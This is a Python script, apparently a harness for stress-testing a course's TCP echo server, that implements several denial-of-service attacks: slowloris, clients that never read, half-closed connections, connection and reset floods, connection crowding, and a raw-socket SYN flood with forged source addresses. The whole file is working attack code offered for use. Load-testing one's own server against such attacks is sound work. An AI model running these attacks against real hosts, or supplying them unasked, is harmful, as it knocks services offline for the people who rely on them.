#!/usr/bin/env python3
"""attack.py - what a class may do to a TCP echo server, one attack a verb.

  attack.py HOST PORT slowloris N     N clients that send a byte now and then and never finish
  attack.py HOST PORT deaf N          N clients that send all the server takes and never read; half of them have a tiny window, and one of the
                                    others has read well before
  attack.py HOST PORT half_closed N   N clients that send all the server takes, half-close, and never read
  attack.py HOST PORT flood           connections made and left, as fast as they can be
  attack.py HOST PORT resets N        connections that send N bytes and are reset (SO_LINGER 0), as fast as they can be
  attack.py HOST PORT crowd N         N clients; whoever is turned away comes again
  attack.py HOST PORT syns            SYNs from sources in 198.18.0.0/24 that never answer (a raw socket); HOST needs a route there, see syns()

It prints `begun` once the attack is under way, goes on until its standard input ends, and then prints one line of `key=value`: how often
it did what it does. Everything is left behind as it is: the end of this program is the end of its clients. `--source ADDRESS` is
where it comes from.
"""
import argparse
import errno
import os
import random
import resource
import select
import socket
import struct
import sys
import threading
import time

stop = threading.Event()


def read_stdin():
    while os.read(0, 4096):
        pass
    stop.set()


def begun():
    print("begun", flush=True)


def connect(args, window=0):
    s = socket.socket()
    if window:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window)
    if args.source:
        s.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT: the port is chosen at connect, so they do not run out
        s.bind((args.source, 0))
    s.settimeout(5)
    s.connect((args.host, args.port))
    return s


def abort(s):
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    s.close()


def slowloris(args):
    crowd = [connect(args) for _ in range(args.number)]
    begun()
    sent = 0
    while not stop.is_set():
        for s in random.sample(crowd, max(1, len(crowd) // 20)):
            s.send(b"x")
            sent += 1
        stop.wait(0.01)
    return "clients=%d bytes=%d" % (len(crowd), sent)


def stuff(crowd, seconds):
    """Sends to each until it has taken nothing for a while. Returns the bytes."""
    poll, sent, chunk = select.epoll(), 0, b"x" * 65536
    by_fd = {s.fileno(): s for s in crowd}
    for s in crowd:
        s.setblocking(False)
        poll.register(s, select.EPOLLOUT)
    end = time.monotonic() + seconds
    while not stop.is_set() and time.monotonic() < end:
        ready = poll.poll(0.1)
        if not ready:
            break
        for fd, _ in ready:
            try:
                sent += by_fd[fd].send(chunk)
            except OSError as error:
                if error.errno != errno.EAGAIN:
                    poll.unregister(fd)
    return sent


def read_well(s, number):
    """What a kernel keeps for a client grows while the client is a good one."""
    chunk, got = b"x" * 262144, 0
    s.setblocking(False)
    while got < number and not stop.is_set():
        readable, writable, _ = select.select([s], [s], [], 1)
        if writable:
            s.send(chunk)
        if readable:
            got += len(s.recv(1 << 20))


def deaf(args):
    crowd = [connect(args, 2048 * (i % 2)) for i in range(args.number)]
    read_well(crowd[0], 4 << 20)
    sent = stuff(crowd, 1)
    begun()
    while not stop.is_set():
        sent += stuff(crowd, 1)
        stop.wait(0.01)
    return "clients=%d bytes=%d" % (len(crowd), sent)


def half_closed(args):
    crowd = [connect(args, 2048 * (i % 2)) for i in range(args.number)]
    sent = stuff(crowd, 2)
    for s in crowd:
        s.shutdown(socket.SHUT_WR)
    begun()
    stop.wait()
    return "clients=%d bytes=%d" % (len(crowd), sent)


def hammer(args, leave):
    """Connections one after the other, none of which is waited for longer than its handshake."""
    made = refused = 0
    while not stop.is_set():
        try:
            s = connect(args)
            made += 1
            leave(s)
        except OSError:
            refused += 1
        if made + refused == 10:
            begun()
    return "connections=%d refused=%d" % (made, refused)


def flood(args):
    return hammer(args, socket.socket.close)


def resets(args):
    data = b"x" * args.number

    def leave(s):
        s.setblocking(False)
        try:
            s.send(data)
        finally:
            abort(s)
    return hammer(args, leave)


def crowd(args):
    """Holds as many as it is allowed; each second it tries again to be N."""
    held, away = [], 0
    first = True
    while not stop.is_set():
        held = [s for s in held if not is_gone(s)]
        for _ in range(args.number - len(held)):
            try:
                held.append(connect(args))
            except OSError:
                away += 1
        if first:
            begun()
        first = False
        stop.wait(0.05)
    away += args.number - len([s for s in held if not is_gone(s)])
    return "clients=%d turned_away=%d" % (args.number, away)


def is_gone(s):
    try:
        s.setblocking(False)
        if s.recv(1, socket.MSG_PEEK) != b"":
            return False
    except BlockingIOError:
        return False
    except OSError:
        pass
    s.close()
    return True


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def syn(source, target, port):
    """A SYN without a client (RFC 9293 3.1): the kernel adds the checksum of the IP header."""
    head = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), port, random.getrandbits(32), 0, 5 << 4, 2, 65535, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!BBH", 0, 6, len(head))
    head = head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(head), 0, 0, 64, 6, 0, socket.inet_aton(source), socket.inet_aton(target)) + head


# All networks of a machine share a queue for each of its CPUs (net.core.netdev_max_backlog, 1000 packets). What fills it takes packets away
# from whatever else runs there, so there is time between two bursts for the kernel to have seen the first. For the same reason the sources
# are behind a router, who throws the SYN-ACKs away. Were they neighbours, nobody would answer for them (arp(7)), and after three seconds
# the kernel would tell itself of every SYN-ACK, all at once, that its host is unreachable.
BURST, PAUSE = 200, 0.004


def syns(args):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    packets = [syn("198.18.0.%d" % (1 + i % 100), args.host, args.port) for i in range(25 * BURST)]
    begun()
    sent = 0
    while not stop.wait(PAUSE):
        for _ in range(BURST):
            raw.sendto(packets[sent % len(packets)], (args.host, 0))
            sent += 1
    return "syns=%d" % sent


ATTACKS = {f.__name__: f for f in (slowloris, deaf, half_closed, flood, resets, crowd, syns)}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("number", type=int, nargs="?", default=0)
    parser.add_argument("--source")
    args = parser.parse_args()
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    threading.Thread(target=read_stdin, daemon=True).start()
    print(ATTACKS[args.attack](args), flush=True)


main()
